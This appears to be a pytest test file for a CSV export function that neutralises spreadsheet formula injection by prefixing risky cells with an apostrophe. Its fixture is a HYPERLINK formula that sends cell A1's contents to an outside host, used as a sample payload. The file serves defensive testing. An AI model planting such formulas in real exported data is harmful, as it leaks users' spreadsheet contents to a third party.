"""What a spreadsheet would compute is shown instead (ASVS 5.0, 1.2.10)."""

import pytest

from belltown.disclosure.csv_cells import safe_cell

FORMULA = 'HYPERLINK("http://example.org?"&A1,"see")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠"])
def test_a_formula_is_put_behind_an_apostrophe(start):
    assert safe_cell(start + FORMULA) == "'" + start + FORMULA
    assert safe_cell(start) == "'" + start


@pytest.mark.parametrize(
    "hidden", [" ", "\u00a0", "\u3000", "\ufeff", "\u200b", " \t ", "\x1f", "\x01", "\x7f", "\u202e"]
)
def test_what_cannot_be_seen_before_a_sign_does_not_save_it(hidden):
    assert safe_cell(hidden + "=" + FORMULA) == "'" + hidden + "=" + FORMULA


@pytest.mark.parametrize(
    "text", ["", " ", "Juniper Yarrow", "12-34", "a=b", "'tis", "'=1+1", " 5th & Pine", "Ñandú", "(206) 555-0100"]
)
def test_other_text_is_left_as_it_is(text):
    assert safe_cell(text) == text
